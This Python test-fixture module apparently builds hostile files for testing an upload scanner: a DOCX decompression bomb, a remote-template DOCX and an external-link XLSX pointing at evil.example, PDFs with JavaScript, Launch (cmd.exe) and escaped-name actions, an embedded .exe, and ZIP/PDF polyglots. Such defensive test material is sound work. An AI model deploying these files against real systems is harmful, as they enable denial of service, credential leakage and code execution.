"""Hostile evidence files, built as an attacker builds them: a Word bomb, active content,
polyglots. Each is a real file the libraries of its type open (or would)."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import docx
import openpyxl
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.storage.files import PDF

BOMB_XML_MB = 190  # inflates to 31 million empty paragraphs: 4.4 GB once python-docx parses it


def _docx_bytes() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Отчёт об исполнении мероприятия")
    document.save(out)
    return out.getvalue()


def _rewrite(
    package: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """An Office package with parts replaced and parts added, deflated as Word does."""
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            z.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, data in (add or {}).items():
            z.writestr(name, data)
    return out.getvalue()


def word_bomb(path: Path) -> Path:
    """A 1.2 MB DOCX whose document part inflates to 190 MB of ``<w:p/>``: within the byte
    budget (200 × the upload), 31 million paragraphs for python-docx to build. A stored
    member of random bytes (a «picture») makes the upload big enough for that budget."""
    source = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                out.writestr(info.filename, source.read(info))
                continue
            head, tail = source.read(info).decode().split("<w:body>")
            block = b"<w:p/>" * 100_000
            with out.open("word/document.xml", "w") as part:
                part.write((head + "<w:body>").encode())
                for _ in range(BOMB_XML_MB * 1024 * 1024 // len(block)):
                    part.write(block)
                part.write(tail.encode())
        out.writestr("word/media/image1.png", os.urandom(900 * 1024), zipfile.ZIP_STORED)
    return path


def docx_with_remote_template() -> bytes:
    """A DOCX whose settings attach a template fetched from a server when Word opens it."""
    package = _docx_bytes()
    settings = zipfile.ZipFile(io.BytesIO(package)).read("word/settings.xml").decode()
    # the template comes first among the settings (ECMA-376 §17.15.1.78); «r» is declared
    settings = settings.replace("<w:zoom ", '<w:attachedTemplate r:id="rIdEvil"/><w:zoom ', 1)
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return _rewrite(
        package,
        replace={"word/settings.xml": settings.encode()},
        add={"word/_rels/settings.xml.rels": rels.encode()},
    )


def docx_with_ole_object() -> bytes:
    """A DOCX carrying an embedded OLE object (a compound file that could hold anything)."""
    ole = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
    return _rewrite(_docx_bytes(), add={"word/embeddings/oleObject1.bin": ole})


def xlsx_with_external_link() -> bytes:
    """An XLSX whose workbook links to a book on another machine (refreshed on opening)."""
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "='\\\\evil.example\\share\\[book.xlsx]Лист1'!A1"
    book.save(out)
    link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId1"/></externalLink>'
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\book.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    return _rewrite(
        out.getvalue(),
        add={
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels.encode(),
        },
    )


def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    """A one-page PDF that runs a script when opened (an /OpenAction of type JavaScript)."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/');"),
        }
    )
    return _pdf(writer)


def pdf_with_escaped_javascript() -> bytes:
    """The same script written by hand with its names escaped (``/J#61vaScript``), as a
    scanner of raw bytes would miss it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
    body, offsets = b"%PDF-1.7\n", []
    for n, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{n} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(body)
    body += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    body += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    body += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return body


def pdf_with_launch() -> bytes:
    """A PDF whose opening action starts a program."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return _pdf(writer)


def pdf_with_embedded_file() -> bytes:
    """A PDF carrying a program as an attachment."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("invoice.exe", b"MZ" + bytes(200))
    return _pdf(writer)


def zip_first_polyglot() -> bytes:
    """A ZIP whose first member is a stored PDF: a PDF reader finds ``%PDF`` in its first
    kilobyte and opens it as a PDF, a ZIP reader opens it as an archive of one PDF."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.pdf", PDF, zipfile.ZIP_STORED)
    return out.getvalue()


def docx_with_pdf_after_it() -> bytes:
    """A DOCX with a whole PDF after its end record: Word and python-docx open the DOCX,
    a forgiving PDF reader finds the PDF."""
    return _docx_bytes() + PDF


def dense_word(path: Path, paragraphs: int = 3_500_000) -> Path:
    """A 0.4 MB DOCX within every count (3.5 million empty paragraphs, under the 4 million
    nodes a part may hold, 21 MB inflated): accepted, but python-docx needs about 500 MB
    to open it, which only the inspecting process may spend."""
    source = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "word/document.xml":
                head, tail = data.decode().split("<w:body>")
                data = (head + "<w:body>").encode() + b"<w:p/>" * paragraphs + tail.encode()
            out.writestr(info.filename, data)
        # a «picture» of random bytes: the upload is big enough for 21 MB at 200 times
        out.writestr("word/media/image1.png", os.urandom(300 * 1024), zipfile.ZIP_STORED)
    return path
